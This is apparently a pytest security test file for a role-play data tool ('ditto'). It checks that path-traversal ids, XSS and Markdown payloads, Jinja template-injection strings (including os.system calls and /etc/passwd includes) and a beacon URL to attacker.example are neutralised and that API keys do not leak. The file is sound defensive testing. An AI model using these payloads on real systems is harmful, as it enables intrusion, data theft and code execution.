"""Hostile text: character ids, names and descriptions, model names and model output are data.

1. No such string becomes part of a path: every file a stage writes has a fixed name inside
   the folder the user chose, whatever the ids (`../../x`, `C:\\x`, NUL, 5,000 characters,
   `Q42` beside `q42`, `é` composed beside `é` decomposed). Proven by watching every write
   (Python's audit events, plus the directory tree before and after for C code).
2. The reports show any of it as text: report.html parsed back has no element or attribute
   the data added, and report.md rendered by a CommonMark parser neither.
3. Prompt templates cannot be broken out of: profile text is inserted verbatim, and a
   template from a `--prompts` folder runs in Jinja's sandbox, so reaching for Python
   internals is a one-line DittoError naming the file instead of code that runs.
4. The API key never reaches a run directory, stdout, stderr or an error message, against
   the real llama.cpp server, a server that echoes it back, and a port nobody listens on.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import unicodedata
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest

from ditto.characters.profile import Profile
from ditto.errors import DittoError
from ditto.prompts import render
from ditto.prompts.role import role_system_prompt
from ditto.report import build_report
from ditto.simulate.queries import query_prompt
from ditto.simulate.samples import write_exports
from ditto.simulate.sessions import response_system_prompt
from ditto.types import ChatRequest, Message, SamplingParams

# --- 1. No path from an id ------------------------------------------------------------------

HOSTILE_IDS = [
    "../../escape", "a/b", "..", ".", "C:\\x", "C:\\..\\..\\escape", "/abs/escape", "~/escape",
    "nul\x00byte", "L" * 5000, "../" * 20 + "deep", "Q42", "q42", "caf\u00e9", "cafe\u0301",
    "CON", "aux.txt", " spaced ", "\u202eexe.txt", "new\nline",
]


class WriteWatch:
    """Every path this process writes, creates, renames or removes while the watch is on.

    Built on Python's audit events (`open` in a writing mode, `os.mkdir`, `os.rename`, which
    `os.replace` raises too, `os.remove`, `sqlite3.connect`, ...). An audit hook cannot be
    removed, so one is installed once and records only while a watch is active.
    """

    _active: ClassVar[list[str] | None] = None
    _installed: ClassVar[bool] = False
    EVENTS: ClassVar[dict[str, tuple[int, ...]]] = {
        "os.mkdir": (0,), "os.rename": (0, 1), "os.remove": (0,), "os.rmdir": (0,), "os.link": (0, 1),
        "os.symlink": (0, 1), "os.truncate": (0,), "shutil.copyfile": (1,), "shutil.rmtree": (0,),
        "sqlite3.connect": (0,), "tempfile.mkstemp": (0,), "tempfile.mkdtemp": (0,),
    }

    @classmethod
    def _hook(cls, event: str, args: tuple) -> None:
        paths = cls._active
        if paths is None:
            return
        if event == "open":
            path, mode, flags = args
            writes = any(c in mode for c in "wax+") if isinstance(mode, str) else bool(
                flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)
            )
            if writes and isinstance(path, (str, bytes, os.PathLike)):
                paths.append(os.path.abspath(os.fsdecode(path)))
        elif event in cls.EVENTS:
            for index in cls.EVENTS[event]:
                if index < len(args) and isinstance(args[index], (str, bytes, os.PathLike)):
                    paths.append(os.path.abspath(os.fsdecode(args[index])))

    def __enter__(self) -> list[str]:
        if not WriteWatch._installed:
            sys.addaudithook(WriteWatch._hook)
            WriteWatch._installed = True
        WriteWatch._active = self.paths = []
        return self.paths

    def __exit__(self, *exc) -> None:
        WriteWatch._active = None


def tree(root: Path) -> set[str]:
    return {str(p) for p in root.rglob("*")}


def assert_inside(paths, allowed: list[Path], sandbox: Path) -> None:
    """Every path under `sandbox` (the test's tmp folder, where `../` from a run would land)
    is inside one of `allowed` or a folder on the way to it; none anywhere is named after an id."""
    roots = [os.path.realpath(a) for a in allowed]
    for path in paths:
        real = os.path.realpath(path)
        if real.startswith(os.path.realpath(sandbox) + os.sep):
            inside = any(real == r or real.startswith(r + os.sep) or r.startswith(real + os.sep) for r in roots)
            assert inside, f"written outside the run: {path}"
        assert "escape" not in os.path.basename(real) and "deep" not in os.path.basename(real), path


def sample(character_id: str) -> dict:
    """A record as `sft_sample` makes it, for a character with a hostile id."""
    return {
        "messages": [
            {"role": "system", "content": f"You are {character_id}."},
            {"role": "user", "content": "Where do you live?"},
            {"role": "assistant", "content": "<script>alert(1)</script>"},
        ],
        "character_id": character_id, "lang": "en", "session_id": f"{character_id}@en", "turn_kinds": ["role_specific"],
    }


def test_exports_keep_hostile_ids_in_records_never_in_file_names(tmp_path):
    run = tmp_path / "a" / "b" / "run"
    run.mkdir(parents=True)
    before = tree(tmp_path)
    with WriteWatch() as written:
        files = write_exports([sample(i) for i in HOSTILE_IDS], run)
    assert_inside(written, [run], tmp_path)
    new = tree(tmp_path) - before
    assert all(Path(p).is_relative_to(run) for p in new), sorted(new)
    assert {Path(p).relative_to(run).parts[0] for p in new} <= {"sft.jsonl", "sharegpt.json", "hf_dataset"}
    # Every id comes back verbatim and distinct: no case folding, no normalisation, no NUL lost.
    lines = Path(files["sft"]).read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["character_id"] for line in lines] == HOSTILE_IDS
    sharegpt = json.loads(Path(files["sharegpt"]).read_text(encoding="utf-8"))
    assert [c["id"] for c in sharegpt] == [f"{i}@en" for i in HOSTILE_IDS]
    assert unicodedata.normalize("NFC", "cafe\u0301") == "caf\u00e9"  # equal once normalised, kept apart here
    if "hf_dataset" in files:
        import datasets

        assert datasets.load_from_disk(files["hf_dataset"])["character_id"] == HOSTILE_IDS


RUN_FILES = {
    "store.sqlite", "store.sqlite-wal", "store.sqlite-shm", "lock", "queries.jsonl", "sessions.jsonl",
    "failures.jsonl", "sft.jsonl", "sharegpt.json", "hf_dataset", "stats.json",
}


def tiny_prompts(folder: Path) -> Path:
    """Short prompts, so the real model answers fast; the ids never reach a prompt anyway."""
    (folder / "en").mkdir(parents=True)
    (folder / "en" / "query_simulation.j2").write_text(  # the builtin model parses from this
        '{# version: 1 #}\nCopy this JSON list and nothing else:\n["Where do you live?"]'
    )
    (folder / "en" / "response_simulation.j2").write_text("{# version: 1 #}\nYou are {{ profile.name }}.")
    return folder


@pytest.mark.slow  # 4 short llama.cpp requests: seconds alone, a minute on a busy 2-core box
def test_simulate_with_hostile_ids_writes_only_inside_its_run(tmp_path, llama_server):
    """The stage end to end on the real model (llama.cpp): whatever it makes of the tiny
    prompts, every file lands in the run directory under a fixed name."""
    from ditto.models import BackendConfig, load_model
    from ditto.simulate.config import SimulateConfig
    from ditto.simulate.run import simulate
    from ditto.store import RunStore

    ids = ["../../escape\x00", "C:\\..\\a/b/" + "../" * 20 + "deep" + "L" * 3000]
    pool = [
        Profile(id=ids[0], name="Ada Lovelace", lang="en", description="mathematician"),
        Profile(id=ids[1], name="Isaac Newton", lang="en", description="physicist"),
    ]
    run = tmp_path / "a" / "b" / "run"
    config = SimulateConfig(
        langs=("en",), turns=1, queries_per_pair=1, max_attempts=1,
        prompts_dir=str(tiny_prompts(tmp_path / "prompts")),
        max_tokens=10, query_temperature=0, temperature=0,  # just enough for the copied question
    )
    teacher = load_model("builtin", llama_server, BackendConfig(concurrency=2))
    before = tree(tmp_path)
    with WriteWatch() as written, RunStore(run) as store:
        simulate(pool, teacher, store, run, config, progress=False)
    assert_inside(written, [run], tmp_path)
    new = {Path(p) for p in tree(tmp_path) - before} - {run, run.parent, run.parent.parent}
    assert {p.relative_to(run).parts[0] for p in new} <= RUN_FILES, sorted(map(str, new))
    owners = [json.loads(line)["owner_id"] for line in (run / "queries.jsonl").read_text(encoding="utf-8").splitlines()]
    assert sorted(owners) == sorted(ids)  # verbatim, NUL and all
    sessions = (run / "sessions.jsonl").read_text(encoding="utf-8").splitlines()
    assert {json.loads(line)["character_id"] for line in sessions} <= set(ids)


# --- 2. Reports escape everything -------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
HOSTILE_TEXTS = [
    SCRIPT, IMG, "</style><style>body{display:none}</style>", "{{ 7*7 }}", "{% for x in range(3) %}x{% endfor %}",
    "</textarea><svg onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "&lt;b&gt;entity&lt;/b&gt;",
    "![x](https://attacker.example/pixel.png?q=secret)", "[click](javascript:alert(1))",
    "[ref]: https://attacker.example",
    "a | b\n| c | d |\n\n# heading", "\\](https://attacker.example)", "`` ``` ` code", "$x^$", "_hidden",
]
EVIL = " ".join(HOSTILE_TEXTS)  # one string holding every attack


def hostile_record(item_id: str) -> dict:
    """A judged record whose every text field is hostile, judge raw text included."""
    raw = {"raw": EVIL, "value": 1}
    return {
        "id": item_id, "lang": "en", "label": EVIL, "summary": EVIL, "system": EVIL, "category": EVIL,
        "prompts": [EVIL, "line one\nline two | " + SCRIPT], "answers": [EVIL, IMG + "\n" + SCRIPT],
        "ref_messages": [EVIL, EVIL], "candidates": [EVIL], "evidence": [EVIL, EVIL], "character_id": EVIL,
        "rejection_labels": [0, 1], "consist_scores": [1.0, 0.5], "reject_scores": [0, 1], "knowledge_scores": [7, 3],
        "judgements": [{"consistency": [raw], "rejection": [raw], "knowledge": [raw]}] * 2,
    }


@pytest.fixture()
def hostile_runs(tmp_path) -> list[Path]:
    runs = []
    for name in ("seed", "tuned"):
        run = tmp_path / name
        run.mkdir()
        (run / "judged.jsonl").write_text(json.dumps(hostile_record(EVIL + " item")) + "\n", encoding="utf-8")
        (run / "run_info.json").write_text(json.dumps({
            "label": f"{name} {EVIL}", "model": EVIL, "judge": EVIL, "eval_file": EVIL,
        }), encoding="utf-8")
        (run / "mtbench.jsonl").write_text(json.dumps({
            "question_id": 91, "category": "roleplay", "turns": [EVIL], "answers": [EVIL], "scores": [7],
            "judge_raw": [EVIL],
        }) + "\n", encoding="utf-8")
        runs.append(run)
    return runs


class Elements(HTMLParser):
    """The elements and attributes a browser would build from a page, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_style = tag == "style"

    def handle_endtag(self, tag):
        self._in_style = False

    def handle_data(self, data):
        (self.styles if self._in_style else self.text).append(data)


PAGE_TAGS = {
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "ul", "li", "strong", "code",
    "table", "tr", "th", "td", "figure", "img", "figcaption", "div",
}


def test_html_report_shows_hostile_text_as_text(hostile_runs, tmp_path):
    with WriteWatch() as written:
        files = build_report(hostile_runs, tmp_path / "report")
    assert_inside(written, [tmp_path / "report"], tmp_path)
    assert {p.name for p in (tmp_path / "report").iterdir()} == {"report.md", "report.html", "scores.png", "radar.png"}
    page = files["html"].read_text(encoding="utf-8")
    parsed = Elements()
    parsed.feed(page)
    parsed.close()
    # Only the template's own elements: no script, svg, a, textarea or extra img from the data.
    assert {tag for tag, _ in parsed.tags} <= PAGE_TAGS
    assert not any(name.startswith("on") for _, attrs in parsed.tags for name in attrs)
    images = [attrs["src"] for tag, attrs in parsed.tags if tag == "img"]
    assert len(images) == 2 and all(src.startswith("data:image/png;base64,") for src in images)
    assert len([tag for tag, _ in parsed.tags if tag == "style"]) == 1 and "display:none" not in "".join(parsed.styles)
    # ...and every hostile text is shown as the text it is, Jinja syntax not evaluated.
    text = "".join(parsed.text)
    for hostile in HOSTILE_TEXTS:
        assert hostile.split("\n")[0] in text, hostile


def test_markdown_report_keeps_hostile_text_in_its_cell(hostile_runs, tmp_path):
    markdown_it = pytest.importorskip("markdown_it")
    markdown = build_report(hostile_runs, tmp_path / "report")["markdown"].read_text(encoding="utf-8")
    # Rendered as a viewer would (CommonMark with raw HTML on, plus tables), nothing is added.
    rendered = markdown_it.MarkdownIt("commonmark").enable("table").render(markdown)
    parsed = Elements()
    parsed.feed(rendered)
    tags = [tag for tag, _ in parsed.tags]
    assert {"script", "svg", "a", "textarea", "style"}.isdisjoint(tags)
    images = [attrs["src"] for tag, attrs in parsed.tags if tag == "img"]
    assert images == ["scores.png", "radar.png"]
    assert not any(name.startswith("on") for _, attrs in parsed.tags for name in attrs)
    # Every table row has as many cells as the header: no pipe or line break made a new one.
    tables = rendered.split("<table>")[1:]
    assert len(tables) == 2
    for table in tables:
        rows = table.split("</table>")[0].split("<tr>")[1:]
        widths = {row.count("<th") + row.count("<td") for row in rows}
        assert widths == {3}, widths  # the row name, then the two runs
    text = "".join(parsed.text)
    assert SCRIPT in text and IMG in text and "{{ 7*7 }}" in text
    assert "![x](https://attacker.example/pixel.png?q=secret)" in text


def test_charts_take_any_label(hostile_runs, tmp_path, monkeypatch):
    """A `$` in a model name is not mathtext (`$x^$` stopped the report with a parse error)
    and a label starting with `_` still gets its legend entry."""
    from matplotlib.figure import Figure

    legends = []
    save = Figure.savefig

    def savefig(figure, *args, **kwargs):
        save(figure, *args, **kwargs)  # draws: a mathtext label fails here
        legends.append([t.get_text() for axes in figure.axes for t in axes.get_legend().get_texts()])

    monkeypatch.setattr(Figure, "savefig", savefig)
    for run, label in zip(hostile_runs, ["$x^$ \\$ $", "_hidden"]):
        (run / "run_info.json").write_text(json.dumps({"label": label}), encoding="utf-8")
    build_report(hostile_runs, tmp_path / "report")
    bars, radar = legends
    assert bars == radar == ["\\$x^\\$ \\\\$ \\$", "_hidden"]  # escaped `$`: drawn as the literal text


# --- 3. Prompt templates ------------------------------------------------------------------------

JINJA_TEXTS = [
    "{{ config }}", "{% for x in range(3) %}loop{% endfor %}", "{{ ''.__class__.__mro__ }}", "{# comment #}",
    "{% raw %}", "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{{ cycler.__init__.__globals__.os }}",
]
JINJA = " ".join(JINJA_TEXTS)


def jinja_profile() -> Profile:
    return Profile(
        id="Q1", name="Ada " + JINJA, lang="en", description="poet " + JINJA, aliases=[JINJA],
        claims=["occupation: " + JINJA], summary="Summary " + JINJA,
    )


def test_profile_text_is_inserted_verbatim():
    profile, other = jinja_profile(), Profile(id="Q2", name="Newton", lang="en")
    rendered = [
        query_prompt(profile, other, 3, None)[0].content,
        response_system_prompt(profile, None),
        role_system_prompt(profile),
    ]
    judged = {name: JINJA for name in ("query", "answer", "label", "summary", "evidence")} | {"candidates": [JINJA]}
    rendered += [render(f"judge_{m}", "en", None, **judged) for m in ("consistency", "rejection", "knowledge")]
    rendered += [render("judge_mtbench", "zh", None, history=[{"question": JINJA, "answer": JINJA}])]
    for text in rendered:
        assert JINJA in text  # the whole string, unchanged: nothing in it was evaluated


MALICIOUS_TEMPLATES = {
    "mro": "{{ name.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{{ cycler.__init__.__globals__.os.system('touch MARKER') }}",
    "format": "{{ '{0.__class__.__init__.__globals__}'.format(name) }}",
    "mutate": "{{ [name].append(2) }}",
    "include": "{% include '../../../../../../etc/passwd' %}",
    "syntax": "{% for x in %}",
    "undefined": "{{ no_such_value }}",
}


@pytest.mark.parametrize("case", MALICIOUS_TEMPLATES)
def test_a_user_template_cannot_run_python(case, tmp_path):
    folder = tmp_path / "prompts"
    (folder / "en").mkdir(parents=True)
    marker = tmp_path / "MARKER"
    source = MALICIOUS_TEMPLATES[case].replace("MARKER", str(marker))
    template = folder / "en" / "role_system.j2"
    template.write_text("{# version: 1 #}\nYou are {{ name }}.\n" + source + "\n", encoding="utf-8")
    with pytest.raises(DittoError) as error:
        role_system_prompt(Profile(id="Q1", name="Ada", lang="en", description="poet"), folder)
    message = str(error.value)
    assert "\n" not in message and f"{template}:3" in message, message
    assert not marker.exists()  # nothing ran


def test_a_user_include_cannot_run_python_either(tmp_path):
    """The package's query prompt includes profile.j2; a user's profile.j2 is sandboxed too."""
    (tmp_path / "en").mkdir()
    (tmp_path / "en" / "profile.j2").write_text("{{ profile.__class__.__mro__ }}", encoding="utf-8")
    profile = Profile(id="Q1", name="Ada", lang="en")
    with pytest.raises(DittoError, match=r"profile\.j2:1: prompt template refused by the sandbox"):
        query_prompt(profile, profile, 3, tmp_path)


# --- 4. API keys --------------------------------------------------------------------------------

SECRET = "sk-hostile-Q7vX2mZ9kL4pW8rT"
OTHER_SECRET = "sk-openai-Hq3Zt8Vn1Ry6Ws4B"


def leaks(data: str | bytes) -> list[str]:
    """Every 8-character piece of either key found in `data`: a key cut short leaks too."""
    text = data.decode("utf-8", "replace") if isinstance(data, bytes) else data
    return [s[i:i + 8] for s in (SECRET, OTHER_SECRET) for i in range(len(s) - 7) if s[i:i + 8] in text]


def assert_no_key(folder: Path, *outputs: str) -> None:
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        assert not leaks(path.read_bytes()), f"API key in {path}"
    for output in outputs:
        assert not leaks(output), output[-2000:]


def ditto_generate(tmp_path: Path, base_url: str, *extra: str) -> subprocess.CompletedProcess:
    chats = tmp_path / "chats.jsonl"
    chats.write_text(json.dumps({"messages": [{"role": "user", "content": "Say hi."}]}) + "\n", encoding="utf-8")
    env = dict(os.environ, DITTO_API_KEY=SECRET, OPENAI_API_KEY=OTHER_SECRET)
    command = [
        sys.executable, "-m", "ditto", "generate", "--input", str(chats), "--output", str(tmp_path / "out.jsonl"),
        "--model", "builtin", "--base-url", base_url, "--run", str(tmp_path / "run"), "--max-tokens", "8",
        "--no-progress", *extra,
    ]
    return subprocess.run(command, check=False, capture_output=True, text=True, env=env, timeout=300, cwd=tmp_path)


def test_api_key_stays_out_of_a_real_run(tmp_path, llama_server):
    result = ditto_generate(tmp_path, llama_server)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "run" / "store.sqlite").is_file() and (tmp_path / "out.jsonl").is_file()
    assert_no_key(tmp_path, result.stdout, result.stderr)


class EchoServer:
    """Answers GET with 200 and POST with `status` and a body echoing the Authorization
    header after `pad` characters, as some proxies and debug servers do."""

    def __init__(self, status: int, pad: int = 0) -> None:
        echo = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args) -> None:
                pass

            def _send(self, status: int, body: str) -> None:
                data = body.encode()
                self.send_response(status)
                self.send_header("content-length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self) -> None:
                self._send(200, '{"data": []}')

            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("content-length", 0)))
                self._send(echo.status, "x" * echo.pad + f"authorization: {self.headers.get('authorization')}")

        self.status, self.pad = status, pad
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base_url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"

    def __enter__(self):
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.mark.parametrize("status, pad", [
    (401, 0),
    (403, 40),
    (500, 0),  # retried, then reported without the body
    (401, 300 - len("authorization: Bearer ") - 8),  # the key straddles the 300th character of the body
])
def test_api_key_is_not_echoed_from_a_refusing_server(tmp_path, status, pad):
    with EchoServer(status, pad) as server:
        result = ditto_generate(tmp_path, server.base_url, "--max-retries", "0")
    assert result.returncode == 2 and result.stderr.startswith("error: "), result.stderr
    assert_no_key(tmp_path, result.stdout, result.stderr)


def test_api_key_stays_out_of_an_unreachable_server_error(tmp_path):
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]  # closed again: nobody listens there
    result = ditto_generate(tmp_path, f"http://127.0.0.1:{port}/v1")
    assert result.returncode == 2 and "cannot reach" in result.stderr, result.stderr
    assert_no_key(tmp_path, result.stdout, result.stderr)


@pytest.mark.parametrize("key", [SECRET + "\n", SECRET[:12] + "\r\n" + SECRET[12:]])
def test_api_key_with_a_line_break_is_not_in_the_error(key):
    """A secret file's trailing newline is stripped; other control characters are refused
    without naming the key (httpx would put the whole header in its error)."""
    from ditto.models.openai_backend import OpenAIChatModel, RetryPolicy

    with EchoServer(200) as server:
        try:
            model = OpenAIChatModel("builtin", [server.base_url], api_key=key,
                                    retry=RetryPolicy(max_retries=0), check_reachable=False)
            request = ChatRequest(messages=(Message(role="user", content="hi"),), params=SamplingParams(max_tokens=8))
            list(model.generate([request]))
        except Exception as exc:  # noqa: BLE001 - any error will do, as long as it keeps the key
            message = f"{type(exc).__name__}: {exc}"
        else:
            message = ""
    assert not leaks(message), message
